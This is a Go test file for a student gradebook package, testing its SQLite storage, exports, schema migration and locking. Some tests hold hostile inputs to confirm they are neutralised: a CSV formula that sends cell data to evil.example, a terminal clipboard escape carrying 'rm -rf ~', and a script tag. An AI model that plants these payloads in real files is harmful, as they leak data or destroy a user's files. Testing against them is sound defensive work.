package gradebook

import (
	"bufio"
	"bytes"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/charmbracelet/x/ansi"
)

func TestMain(m *testing.M) {
	// As a child: record attempts until killed, saying each one once it is
	// committed.
	if db := os.Getenv("GRADEBOOK_WRITER"); db != "" {
		b, err := Open(db)
		if err != nil {
			fmt.Println("open:", err)
			os.Exit(1)
		}
		for i := 0; ; i++ {
			a := attempt(fmt.Sprintf("s%04d", i), "block-pool", Passed)
			if err := b.Record(a); err != nil {
				fmt.Println("record:", err)
				os.Exit(1)
			}
			fmt.Println("committed", a.Student)
		}
	}
	os.Exit(m.Run())
}

func attempt(student, exercise, status string) *Attempt {
	a := &Attempt{Student: student, Exercise: exercise, Status: status, MaxPoints: 10, SourceHash: "h-" + student, SpecHash: "spec1",
		Output: "12 iterations\n", BuildMS: 900, RunMS: 120,
		Checks: []Check{{Name: "prints \"12 iterations\"", Passed: true}, {Name: "cudaMallocAsync calls: at least 12", Passed: status == Passed, Expected: "at least 12", Got: "0", Hint: "allocate in the loop"}}}
	if status == Passed {
		a.Points = 10
	} else {
		a.Reason = "cudaMallocAsync calls: 0"
	}
	return a
}

func open(t *testing.T) *Book {
	t.Helper()
	b, err := Open(filepath.Join(t.TempDir(), "gradebook.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { b.Close() })
	return b
}

func TestRecordAndLatest(t *testing.T) {
	b := open(t)
	if err := b.SetExercises([]Exercise{{"block-pool", 10, 0}, {"async-pipeline", 10, 1}}); err != nil {
		t.Fatal(err)
	}
	if _, ok, err := b.Latest("alice", "block-pool"); ok || err != nil {
		t.Fatalf("an empty book has no attempt: %v %v", ok, err)
	}
	b.Record(attempt("alice", "block-pool", Failed))
	b.Record(attempt("alice", "block-pool", Passed))
	b.Record(attempt("bob", "async-pipeline", Missing))
	a, ok, err := b.Latest("alice", "block-pool")
	if !ok || err != nil || a.Status != Passed || a.Points != 10 || a.SourceHash != "h-alice" {
		t.Fatalf("latest: %+v %v %v", a, ok, err)
	}
	if n, _ := b.Attempts(); n != 3 {
		t.Errorf("attempts = %d, want 3 (the first of alice's is kept as history)", n)
	}
	g, err := b.Grades()
	if err != nil {
		t.Fatal(err)
	}
	if got := g["alice"]["block-pool"]; got.Status != Passed || len(got.Checks) != 2 || !got.Checks[1].Passed {
		t.Errorf("grade: %+v", got)
	}
	if err := b.Record(&Attempt{Student: "x", Exercise: "y", Status: "great"}); err == nil {
		t.Error("an unknown status was recorded")
	}
}

func TestSheetExports(t *testing.T) {
	b := open(t)
	b.SetExercises([]Exercise{{"block-pool", 10, 0}, {"async-pipeline", 15, 1}})
	b.Record(attempt("alice", "block-pool", Passed))
	fail := attempt("alice", "async-pipeline", Failed)
	fail.MaxPoints = 15
	fail.Checks[1].Got = "0 <script>|*x*"
	b.Record(fail)
	b.Record(attempt("bob", "block-pool", Missing))
	s, err := b.Sheet()
	if err != nil {
		t.Fatal(err)
	}
	var csv bytes.Buffer
	if err := s.WriteCSV(&csv); err != nil {
		t.Fatal(err)
	}
	want := "student,block-pool,async-pipeline,total\nalice,10,0,10\nbob,0,,0\n"
	if csv.String() != want {
		t.Errorf("csv:\n%s\nwant:\n%s", csv.String(), want)
	}
	var js bytes.Buffer
	if err := s.WriteJSON(&js); err != nil {
		t.Fatal(err)
	}
	var parsed struct {
		MaxPoints int `json:"max_points"`
		Students  []struct {
			ID        string
			Total     int
			Exercises map[string]struct {
				Status string
				Checks []struct{ Name string }
			}
		}
	}
	if err := json.Unmarshal(js.Bytes(), &parsed); err != nil {
		t.Fatal(err)
	}
	if parsed.MaxPoints != 25 || len(parsed.Students) != 2 || parsed.Students[0].Total != 10 || len(parsed.Students[0].Exercises["async-pipeline"].Checks) != 2 {
		t.Errorf("json: %s", js.String())
	}
	md := s.Feedback("alice")
	for _, w := range []string{"Total: 10 of 25 points", "| block-pool | passed | 10 / 10 |", "✗ cudaMallocAsync calls", "expected: at least 12", "> Hint: allocate in the loop"} {
		if !strings.Contains(md, w) {
			t.Errorf("feedback lacks %q:\n%s", w, md)
		}
	}
	page, err := s.FeedbackHTML("alice")
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(page, []byte("<script>")) || !bytes.Contains(page, []byte("&lt;script&gt;")) {
		t.Errorf("program output must be escaped in the page:\n%s", page)
	}
	if !strings.Contains(s.Feedback("bob"), "No file was handed in") {
		t.Error(s.Feedback("bob"))
	}
}

func TestEmptySheet(t *testing.T) {
	b := open(t)
	if _, err := b.Sheet(); err != ErrNoGrades {
		t.Errorf("err = %v", err)
	}
}

func TestNotAGradebook(t *testing.T) {
	f := filepath.Join(t.TempDir(), "notes.db")
	os.WriteFile(f, []byte("these are my notes, not a database\n"), 0o644)
	if _, err := Open(f); err == nil || !strings.Contains(err.Error(), f) {
		t.Errorf("err = %v", err)
	}
	if data, _ := os.ReadFile(f); string(data) != "these are my notes, not a database\n" {
		t.Error("the file was changed")
	}
}

// TestSurvivesKill kills a writer with SIGKILL in the middle of recording
// and finds every attempt it had committed, in a book that opens and passes
// SQLite's integrity check.
func TestSurvivesKill(t *testing.T) {
	db := filepath.Join(t.TempDir(), "gradebook.db")
	exe, _ := os.Executable()
	cmd := exec.Command(exe)
	cmd.Env = append(os.Environ(), "GRADEBOOK_WRITER="+db)
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	var committed []string
	sc := bufio.NewScanner(out)
	deadline := time.Now().Add(20 * time.Second)
	for sc.Scan() && len(committed) < 40 && time.Now().Before(deadline) {
		line := sc.Text()
		if s, ok := strings.CutPrefix(line, "committed "); ok {
			committed = append(committed, s)
		} else {
			t.Fatalf("writer: %s", line)
		}
	}
	cmd.Process.Signal(syscall.SIGKILL)
	cmd.Wait()
	if len(committed) < 40 {
		t.Fatalf("the writer committed only %d attempts", len(committed))
	}
	b, err := Open(db)
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	var ok string
	if err := b.db.QueryRow(`PRAGMA integrity_check`).Scan(&ok); err != nil || ok != "ok" {
		t.Fatalf("integrity: %q %v", ok, err)
	}
	for _, s := range committed {
		if a, found, err := b.Latest(s, "block-pool"); !found || err != nil || a.Status != Passed || len(a.Checks) != 0 && a.ID == 0 {
			t.Errorf("%s was committed before the kill but is not in the book (%v)", s, err)
		}
	}
	g, _ := b.Grades()
	for s, xs := range g {
		if len(xs["block-pool"].Checks) != 2 {
			t.Errorf("%s: an attempt without its checks: a half-written attempt survived", s)
		}
	}
}

// schemaV1 is the gradebook's first schema, as lessons wrote it before
// checks had points.
const schemaV1 = `
CREATE TABLE IF NOT EXISTS meta (
	key   TEXT PRIMARY KEY,
	value TEXT NOT NULL
);
CREATE TABLE IF NOT EXISTS students (
	id         TEXT PRIMARY KEY,
	first_seen TEXT NOT NULL
);
CREATE TABLE IF NOT EXISTS exercises (
	id       TEXT PRIMARY KEY,
	points   INTEGER NOT NULL,
	position INTEGER NOT NULL
);
CREATE TABLE IF NOT EXISTS attempts (
	id          INTEGER PRIMARY KEY AUTOINCREMENT,
	student     TEXT NOT NULL REFERENCES students(id),
	exercise    TEXT NOT NULL REFERENCES exercises(id),
	status      TEXT NOT NULL CHECK (status IN ('passed', 'failed', 'missing', 'error')),
	points      INTEGER NOT NULL,
	max_points  INTEGER NOT NULL,
	source_hash TEXT NOT NULL,
	spec_hash   TEXT NOT NULL,
	reason      TEXT NOT NULL,
	output      TEXT NOT NULL,
	build_ms    INTEGER NOT NULL,
	run_ms      INTEGER NOT NULL,
	graded_at   TEXT NOT NULL
);
CREATE INDEX IF NOT EXISTS attempts_by_pair ON attempts (student, exercise, id);
CREATE TABLE IF NOT EXISTS checks (
	attempt  INTEGER NOT NULL REFERENCES attempts(id) ON DELETE CASCADE,
	position INTEGER NOT NULL,
	name     TEXT NOT NULL,
	passed   INTEGER NOT NULL,
	expected TEXT NOT NULL,
	got      TEXT NOT NULL,
	hint     TEXT NOT NULL,
	PRIMARY KEY (attempt, position)
);
-- A student's grade for an exercise is their latest attempt.
CREATE VIEW IF NOT EXISTS grades AS
	SELECT a.* FROM attempts a
	WHERE a.id = (SELECT max(b.id) FROM attempts b WHERE b.student = a.student AND b.exercise = a.exercise);
INSERT OR IGNORE INTO meta (key, value) VALUES ('schema', '1');
`

// TestMigratesSchema1: a gradebook written before partial credit opens,
// keeps its grades, and takes checks with points.
func TestMigratesSchema1(t *testing.T) {
	path := filepath.Join(t.TempDir(), "old.db")
	db, err := sql.Open("sqlite", "file:"+path)
	if err != nil {
		t.Fatal(err)
	}
	for _, q := range []string{schemaV1,
		`INSERT INTO students VALUES ('ann', '2026-01-01T00:00:00Z')`,
		`INSERT INTO exercises VALUES ('block-pool', 10, 0)`,
		`INSERT INTO attempts (student, exercise, status, points, max_points, source_hash, spec_hash, reason, output, build_ms, run_ms, graded_at)
			VALUES ('ann', 'block-pool', 'passed', 10, 10, 'h', 's', '', '', 1, 2, '2026-01-01T00:00:00Z')`,
		`INSERT INTO checks VALUES (1, 0, 'runs to the end', 1, '', '', '')`,
	} {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("%v\n%s", err, q)
		}
	}
	db.Close()
	b, err := Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	g, err := b.Grades()
	if err != nil {
		t.Fatal(err)
	}
	if a := g["ann"]["block-pool"]; a == nil || a.Points != 10 || len(a.Checks) != 1 || a.Checks[0].Points != 0 {
		t.Fatalf("ann's grade after the migration: %+v", a)
	}
	a := attempt("bob", "block-pool", Failed)
	a.MarkForReview("statistics do not match what the driver saw")
	a.Points, a.Checks = 3, []Check{{Name: "prints done", Passed: true, Points: 3}, {Name: "exits 0", Points: 7}}
	if err := b.Record(a); err != nil {
		t.Fatal(err)
	}
	g, _ = b.Grades()
	if c := g["bob"]["block-pool"].Checks; len(c) != 2 || c[0].Points != 3 || c[1].Points != 7 {
		t.Errorf("checks with points: %+v", c)
	}
	if g["bob"]["block-pool"].Review == "" || g["ann"]["block-pool"].Review != "" {
		t.Errorf("review marks after the migration: bob %q, ann %q", g["bob"]["block-pool"].Review, g["ann"]["block-pool"].Review)
	}
	var v string
	b.db.QueryRow(`SELECT value FROM meta WHERE key = 'schema'`).Scan(&v)
	if v != schemaVersion {
		t.Errorf("schema %s after the migration, want %s", v, schemaVersion)
	}
}

// TestOpenedAtOnce: processes that open one gradebook at the same moment
// (a grade run starting while export or a progress poll opens it, which
// failed CI once with "duplicate column name: review") each see it made
// and brought up to date once, from nothing and from the first schema.
func TestOpenedAtOnce(t *testing.T) {
	for _, old := range []bool{false, true} {
		for round := 0; round < 5; round++ {
			path := filepath.Join(t.TempDir(), "class.db")
			if old {
				db, err := sql.Open("sqlite", "file:"+path)
				if err != nil {
					t.Fatal(err)
				}
				if _, err := db.Exec(schemaV1); err != nil {
					t.Fatal(err)
				}
				db.Close()
			}
			const openers = 8
			errs := make(chan error, openers)
			start := make(chan struct{})
			for range openers {
				go func() {
					<-start
					b, err := Open(path)
					if err == nil {
						err = b.Close()
					}
					errs <- err
				}()
			}
			close(start)
			for range openers {
				if err := <-errs; err != nil {
					t.Fatalf("from the first schema %v, round %d: %v", old, round, err)
				}
			}
			b, err := Open(path)
			if err != nil {
				t.Fatal(err)
			}
			var v string
			b.db.QueryRow(`SELECT value FROM meta WHERE key = 'schema'`).Scan(&v)
			b.Close()
			if v != schemaVersion {
				t.Fatalf("schema %s after %d opened it at once, want %s", v, openers, schemaVersion)
			}
		}
	}
}

func TestNewerSchema(t *testing.T) {
	path := filepath.Join(t.TempDir(), "new.db")
	b, err := Open(path)
	if err != nil {
		t.Fatal(err)
	}
	b.db.Exec(`UPDATE meta SET value = '99' WHERE key = 'schema'`)
	b.Close()
	if _, err := Open(path); err == nil || !strings.Contains(err.Error(), `schema "99", this lessons reads schema 6: a newer lessons wrote it`) {
		t.Errorf("a gradebook of a newer schema: %v", err)
	}
}

// TestHiddenChecks: the gradebook keeps hidden checks; a student's
// feedback shows them, sums them up or leaves them out as asked, and the
// instructor's export always has them.
func TestHiddenChecks(t *testing.T) {
	b := open(t)
	a := attempt("ann", "block-pool", Failed)
	a.Checks = []Check{
		{Name: "prints done", Passed: true},
		{Name: "[big] prints \"40 iterations\"", Expected: "the output to contain \"40 iterations\"", Got: "it does not", Hidden: true},
		{Name: "[big] exits with status 0", Passed: true, Hidden: true},
	}
	if err := b.Record(a); err != nil {
		t.Fatal(err)
	}
	s, err := b.Sheet()
	if err != nil {
		t.Fatal(err)
	}
	if c := s.Grades["ann"]["block-pool"].Checks; len(c) != 3 || !c[1].Hidden || c[0].Hidden {
		t.Fatalf("checks read back: %+v", c)
	}
	for _, tc := range []struct {
		mode      string
		want, not []string
	}{
		{"show", []string{"40 iterations", "✓ prints done"}, []string{"hidden checks passed"}},
		{"summary", []string{"1 of 2 hidden checks passed", "✓ prints done"}, []string{"40 iterations", "[big]"}},
		{"", []string{"1 of 2 hidden checks passed"}, []string{"40 iterations"}},
		{"none", []string{"✓ prints done"}, []string{"40 iterations", "hidden"}},
	} {
		s.Hidden = tc.mode
		fb := s.Feedback("ann")
		for _, w := range tc.want {
			if !strings.Contains(fb, w) {
				t.Errorf("--hidden %q: feedback lacks %q:\n%s", tc.mode, w, fb)
			}
		}
		for _, w := range tc.not {
			if strings.Contains(fb, w) || strings.Contains(fb, mdText(w)) {
				t.Errorf("--hidden %q: feedback has %q:\n%s", tc.mode, w, fb)
			}
		}
	}
	var js bytes.Buffer
	if err := s.WriteJSON(&js); err != nil || !strings.Contains(js.String(), `"hidden": true`) {
		t.Errorf("the export has no hidden checks: %v\n%s", err, js.String())
	}
}

func TestPeople(t *testing.T) {
	path := filepath.Join(t.TempDir(), "gb.db")
	b, err := Open(path)
	if err != nil {
		t.Fatal(err)
	}
	// A gradebook that never had people has none, and reading makes no table.
	if ps, err := b.People(); err != nil || len(ps) != 0 {
		t.Fatalf("people of a new gradebook: %v, %v", ps, err)
	}
	jsmith := Person{ID: "jsmith", Name: "John Smith", Email: "j@u", LMSID: "1001", SISID: "S-1", Login: "js", Section: "A", LMS: "canvas", Handle: "smithjohn_1001_5001"}
	if err := b.SetPeople([]Person{jsmith, {ID: "jdoe"}}); err != nil {
		t.Fatal(err)
	}
	jsmith.Email = "new@u"
	if err := b.SetPeople([]Person{jsmith}); err != nil {
		t.Fatal(err)
	}
	b.Close()
	b, err = Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	ps, err := b.People()
	if err != nil {
		t.Fatal(err)
	}
	if len(ps) != 2 || ps["jsmith"] != jsmith || ps["jdoe"].ID != "jdoe" {
		t.Errorf("people read back: %+v", ps)
	}
}

// A student's compiler errors and output reach STUDENT.md and its page
// without escape sequences or control bytes (an OSC 52 sequence would
// set the clipboard of whoever cats the file; \r would hide a line).
func TestFeedbackWithoutControlBytes(t *testing.T) {
	b := open(t)
	b.SetExercises([]Exercise{{"block-pool", 10, 0}})
	evil := "\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2J\x1b[31mred\x1b[0m\rfake ✓ 10/10\x00\x08\x7f\u009b"
	fail := attempt("trudy\x1b[8m", "block-pool", Failed)
	fail.Reason = evil
	fail.Checks[1].Got = evil
	fail.Checks[1].Hint = evil
	b.Record(fail)
	err := attempt("trudy\x1b[8m", "block-pool", Error)
	err.Reason = evil
	s, e := b.Sheet()
	if e != nil {
		t.Fatal(e)
	}
	md := s.Feedback("trudy\x1b[8m")
	page, _ := s.FeedbackHTML("trudy\x1b[8m")
	for name, out := range map[string]string{"STUDENT.md": md, "STUDENT.html": string(page)} {
		for _, r := range out {
			if r != '\n' && r != '\t' && (r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f)) {
				t.Errorf("%s holds control character %U:\n%q", name, r, out)
				break
			}
		}
		if !strings.Contains(out, "red") || !strings.Contains(out, "fake ✓ 10/10") {
			t.Errorf("%s lost the text around the escapes:\n%q", name, out)
		}
	}
}

func TestWriteTable(t *testing.T) {
	s := &Sheet{
		Exercises: []Exercise{{ID: "pipe", Points: 10}, {ID: "alloc", Points: 5}},
		Students:  []string{"alice", "bob"},
		Grades: map[string]map[string]*Attempt{
			"alice": {"pipe": {Status: Passed, Points: 10}, "alloc": {Status: Error, Reason: "nvcc vanished"}},
			"bob":   {"pipe": {Status: Failed, Points: 3, Reason: "prints: it does not\nat all"}},
		},
		Max: 15,
	}
	var b bytes.Buffer
	if err := s.WriteTable(&b, 80); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"STUDENT  pipe", "alice    ✓ 10", "? nvcc vanished", "bob      ✗ 3 prints: it does not at all", "-  "} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("table lacks %q:\n%s", want, b.String())
		}
	}
	if s.Count(Error) != 1 || s.Count(Passed) != 1 {
		t.Errorf("count: %d errors, %d passed", s.Count(Error), s.Count(Passed))
	}
}

var update = flag.Bool("update", false, "rewrite golden files")

// TestWriteTableFits: a class's table of seven exercises fits 60, 80 and
// 120 columns, as columns where they fit, else a record per student (it
// was 350 columns wide).
func TestWriteTableFits(t *testing.T) {
	s := &Sheet{Students: []string{"alice", "bob", "carol"}, Grades: map[string]map[string]*Attempt{}}
	ids := []string{"block-pool", "async-pipeline", "pool-reuse", "cross-stream", "growable", "tracking-resource", "device-bump"}
	for _, id := range ids {
		s.Exercises = append(s.Exercises, Exercise{ID: id, Points: 10})
		s.Max += 10
	}
	for i, st := range s.Students {
		s.Grades[st] = map[string]*Attempt{}
		for k, id := range ids {
			switch (i + k) % 4 {
			case 0:
				s.Grades[st][id] = &Attempt{Status: Passed, Points: 10}
			case 1:
				s.Grades[st][id] = &Attempt{Status: Failed, Points: 3, Reason: "the pool's used high watermark was 0 bytes, want at least 4194304"}
			case 2:
				s.Grades[st][id] = &Attempt{Status: Missing}
			}
		}
	}
	for _, width := range []int{60, 80, 120} {
		var b bytes.Buffer
		if err := s.WriteTable(&b, width); err != nil {
			t.Fatal(err)
		}
		for i, l := range strings.Split(b.String(), "\n") {
			if w := ansi.StringWidth(l); w > width {
				t.Errorf("at %d columns: line %d is %d wide: %q", width, i+1, w, l)
			}
		}
		path := filepath.Join("testdata", fmt.Sprintf("table.%d.golden", width))
		if *update {
			if err := os.WriteFile(path, b.Bytes(), 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(path)
		if err != nil {
			t.Fatalf("%v (go test ./internal/gradebook -update creates it)", err)
		}
		if b.String() != string(want) {
			t.Errorf("%s differs (-update to accept); got:\n%s", path, b.String())
		}
	}
}

// TestCSVHoldsNoFormulas: a student's name as a folder or an LMS has it
// that starts as a formula (=HYPERLINK(...)) is not one in grades.csv,
// which a spreadsheet would evaluate on opening.
func TestCSVHoldsNoFormulas(t *testing.T) {
	names := []string{"=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\tindented", "alice"}
	s := &Sheet{Exercises: []Exercise{{ID: "pipe", Points: 10}}, Students: names, Grades: map[string]map[string]*Attempt{}, Max: 10}
	var b bytes.Buffer
	if err := s.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		if c := row[0]; strings.ContainsAny(c[:1], "=+-@\t\r") {
			t.Errorf("a cell starts as a formula: %q", c)
		}
	}
	if rows[len(rows)-1][0] != "alice" {
		t.Errorf("a plain name changed: %q", rows[len(rows)-1][0])
	}
}

// A second grade run on a gradebook another holds is refused at once
// (it graded the class again beside the first and recorded every grade
// twice); readers still open it, and once the first lets go a grade may
// hold it again.
func TestOneGradeRunAtATime(t *testing.T) {
	path := filepath.Join(t.TempDir(), "book.db")
	first, err := OpenToGrade(path)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := OpenToGrade(path); !errors.Is(err, ErrGradedElsewhere) {
		t.Fatalf("a second grade run: %v, want ErrGradedElsewhere", err)
	}
	reader, err := OpenExisting(path)
	if err != nil {
		t.Fatalf("a reader while a grade runs: %v", err)
	}
	reader.Close()
	first.Close()
	again, err := OpenToGrade(path)
	if err != nil {
		t.Fatalf("after the first let go: %v", err)
	}
	again.Close()
}
